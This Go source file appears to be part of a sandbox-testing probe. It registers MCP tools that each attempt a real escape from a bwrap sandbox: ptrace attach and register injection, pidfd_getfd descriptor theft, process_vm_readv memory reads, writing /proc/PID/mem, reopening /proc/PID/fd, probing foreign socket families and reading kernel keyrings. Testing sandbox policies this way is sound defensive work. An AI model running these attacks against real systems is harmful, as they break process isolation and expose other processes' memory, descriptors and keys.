package probe

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"github.com/mark3labs/mcp-go/mcp"
)

// Attacks on the other processes of the sandbox, on socket families and on
// kernel keyrings (issue 11, items 1-3). Each tool performs the real
// attack and answers "ESCAPED: ..." when it worked, an error when it was
// stopped.

func init() {
	num := func(name, desc string) mcp.ToolOption {
		return mcp.WithNumber(name, mcp.Required(), mcp.Description(desc))
	}
	pidArg := mcp.WithNumber("pid", mcp.Description("target PID in the sandbox; 0 (default) means every process that is not the probe or its descendant"))

	register(mcp.NewTool("attack_init_socket",
		mcp.WithDescription("Full chain: ptrace every sandbox process that is not our descendant, make it call socket(AF_UNIX) with injected registers, take the descriptor with pidfd_getfd and connect it to a host unix socket."),
		mcp.WithString("path", mcp.Required(), mcp.Description("host unix socket to reach"))),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(injectSocketChain(req.GetString("path", "")))
		})
	register(mcp.NewTool("attack_ptrace", mcp.WithDescription("PTRACE_ATTACH to sandbox processes that are not our descendants."), pidArg),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(eachTarget(req.GetInt("pid", 0), "ptrace attach", ptraceAttach))
		})
	register(mcp.NewTool("attack_proc_mem", mcp.WithDescription("Open /proc/PID/mem for writing."), pidArg),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(eachTarget(req.GetInt("pid", 0), "open /proc/PID/mem read-write", openProcMem))
		})
	register(mcp.NewTool("attack_pidfd_getfd", mcp.WithDescription("Take a copy of another process's descriptors with pidfd_getfd(2)."), pidArg),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(eachTarget(req.GetInt("pid", 0), "pidfd_getfd", stealFD))
		})
	register(mcp.NewTool("attack_vm_readv", mcp.WithDescription("Read another process's memory with process_vm_readv(2)."), pidArg),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(eachTarget(req.GetInt("pid", 0), "process_vm_readv", vmRead))
		})
	register(mcp.NewTool("attack_proc_fd", mcp.WithDescription("Open another process's descriptors again through /proc/PID/fd/N."), pidArg),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(eachTarget(req.GetInt("pid", 0), "reopen through /proc/PID/fd", reopenFDs))
		})
	register(mcp.NewTool("attack_init_cmdline", mcp.WithDescription("Read /proc/1/cmdline and look for the sandbox's own arguments (bwrap's mounts name the credential files that exist).")),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			data, err := os.ReadFile("/proc/1/cmdline")
			if err != nil {
				return mcp.NewToolResultError(err.Error()), nil
			}
			line := strings.ReplaceAll(strings.TrimRight(string(data), "\x00"), "\x00", " ")
			for _, flag := range []string{"--ro-bind", "--bind", "--tmpfs", "--perms", "--unshare-", "--ro-bind-data"} {
				if strings.Contains(line, flag) {
					return mcp.NewToolResultText("ESCAPED: /proc/1/cmdline shows the sandbox's arguments: " + line), nil
				}
			}
			return mcp.NewToolResultError("no sandbox arguments in /proc/1/cmdline: " + line), nil
		})
	register(mcp.NewTool("spawn_orphan", mcp.WithDescription("Start a sleep that is orphaned at once (reparented to the sandbox's PID 1, so no longer our descendant) and return its PID.")),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			// The sleep's standard descriptors are closed rather than sent to
			// /dev/null, which a policy may have made unusable.
			cmd := exec.Command("sh", "-c", "sleep 600 <&- >&- 2>&- & echo $!")
			cmd.Stdin, cmd.Stderr = strings.NewReader(""), io.Discard
			out, err := cmd.Output()
			if err != nil {
				return mcp.NewToolResultError(err.Error()), nil
			}
			return mcp.NewToolResultText(strings.TrimSpace(string(out))), nil
		})
	register(mcp.NewTool("ptrace_child", mcp.WithDescription("Start a child process and PTRACE_ATTACH to it (what a debugger does).")),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			cmd := exec.Command("sleep", "600")
			if err := cmd.Start(); err != nil {
				return mcp.NewToolResultError(err.Error()), nil
			}
			defer func() { cmd.Process.Kill(); cmd.Wait() }()
			if err := ptraceAttach(cmd.Process.Pid); err != nil {
				return mcp.NewToolResultError("ptrace of our own child: " + err.Error()), nil
			}
			return mcp.NewToolResultText("ESCAPED: attached to our own child " + strconv.Itoa(cmd.Process.Pid)), nil
		})
	register(mcp.NewTool("attack_socket_family", mcp.WithDescription("Create a socket (or a socketpair) of any family."),
		num("domain", "address family, e.g. 40 for AF_VSOCK"), num("type", "socket type, e.g. 1 for SOCK_STREAM"),
		mcp.WithNumber("protocol"), mcp.WithBoolean("pair", mcp.Description("socketpair(2) instead of socket(2)"))),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(openSocket(req.GetInt("domain", 0), req.GetInt("type", 0), req.GetInt("protocol", 0), req.GetBool("pair", false)))
		})
	register(mcp.NewTool("attack_socket_families", mcp.WithDescription("Try the socket families a server has no use for: vsock, packet, netlink audit and uevent, bluetooth, the crypto API.")),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			var made, refused []string
			for _, f := range foreignFamilies {
				if _, err := openSocket(f.domain, f.typ, f.proto, false); err != nil {
					refused = append(refused, f.name+": "+errText(err))
				} else {
					made = append(made, f.name)
				}
			}
			if len(made) > 0 {
				return mcp.NewToolResultText("ESCAPED: created " + strings.Join(made, ", ")), nil
			}
			return mcp.NewToolResultError("refused: " + strings.Join(refused, "; ")), nil
		})
	register(mcp.NewTool("attack_keyring", mcp.WithDescription("Read the inherited session keyring (and the user keyring), add a key, request a key.")),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return result(keyringAttack())
		})
}

// result turns an attack's outcome into a tool result: a non-empty success
// text becomes "ESCAPED: ...", an error means the attack was stopped.
func result(escaped string, err error) (*mcp.CallToolResult, error) {
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText("ESCAPED: " + escaped), nil
}

// eachTarget runs attack on pid, or, when pid is 0, on every process of the
// sandbox that is not the probe or one of its descendants (PID 1 and
// whatever was reparented to it). It reports the first success, or every
// failure.
func eachTarget(pid int, what string, attack func(pid int) error) (string, error) {
	targets := []int{pid}
	if pid == 0 {
		targets = foreignProcesses()
	}
	if len(targets) == 0 {
		return "", fmt.Errorf("%s: no process to attack", what)
	}
	var fails []string
	for _, p := range targets {
		if err := attack(p); err != nil {
			fails = append(fails, fmt.Sprintf("pid %d: %v", p, err))
			continue
		}
		return fmt.Sprintf("%s of pid %d (%s) worked", what, p, comm(p)), nil
	}
	return "", fmt.Errorf("%s refused: %s", what, strings.Join(fails, "; "))
}

// foreignProcesses lists the visible processes that are neither the probe
// nor its descendants, PID 1 first.
func foreignProcesses() []int {
	parent := map[int]int{}
	entries, _ := os.ReadDir("/proc")
	var pids []int
	for _, e := range entries {
		n, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		stat, err := os.ReadFile("/proc/" + e.Name() + "/stat")
		if err != nil {
			continue
		}
		s := string(stat)
		if i := strings.LastIndexByte(s, ')'); i > 0 {
			if f := strings.Fields(s[i+1:]); len(f) > 1 {
				parent[n], _ = strconv.Atoi(f[1])
			}
		}
		pids = append(pids, n)
	}
	self := os.Getpid()
	mine := func(p int) bool {
		for i := 0; p > 0 && i < 64; i++ {
			if p == self {
				return true
			}
			p = parent[p]
		}
		return false
	}
	var out []int
	for _, p := range pids { // /proc lists in ascending order: PID 1 first
		if !mine(p) {
			out = append(out, p)
		}
	}
	return out
}

func comm(pid int) string {
	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	return strings.TrimSpace(string(b))
}

// foreignFamilies are socket families no MCP server needs; the numbers are
// Linux's, spelled out so the tool builds everywhere.
var foreignFamilies = []struct {
	name               string
	domain, typ, proto int
}{
	{"AF_VSOCK", 40, 1, 0},
	{"AF_PACKET", 17, 2, 0},
	{"AF_NETLINK/NETLINK_AUDIT", 16, 3, 9},
	{"AF_NETLINK/NETLINK_KOBJECT_UEVENT", 16, 2, 15},
	{"AF_BLUETOOTH", 31, 3, 0},
	{"AF_ALG", 38, 5, 0},
}

// errText is an error's message without the call that failed.
func errText(err error) string {
	msg := err.Error()
	if i := strings.LastIndex(msg, ": "); i >= 0 {
		return msg[i+2:]
	}
	return msg
}

// reopenFDs lists /proc/PID/fd and opens each entry: the magic links give
// a new open file description of whatever the process has open.
func reopenFDs(pid int) error {
	dir := "/proc/" + strconv.Itoa(pid) + "/fd"
	entries, err := os.ReadDir(dir)
	if err != nil {
		return err
	}
	var fails []string
	for _, e := range entries {
		f, err := os.Open(dir + "/" + e.Name())
		if err == nil {
			f.Close()
			return nil
		}
		fails = append(fails, err.Error())
	}
	return fmt.Errorf("listed %d descriptors, opened none: %s", len(entries), strings.Join(fails, "; "))
}
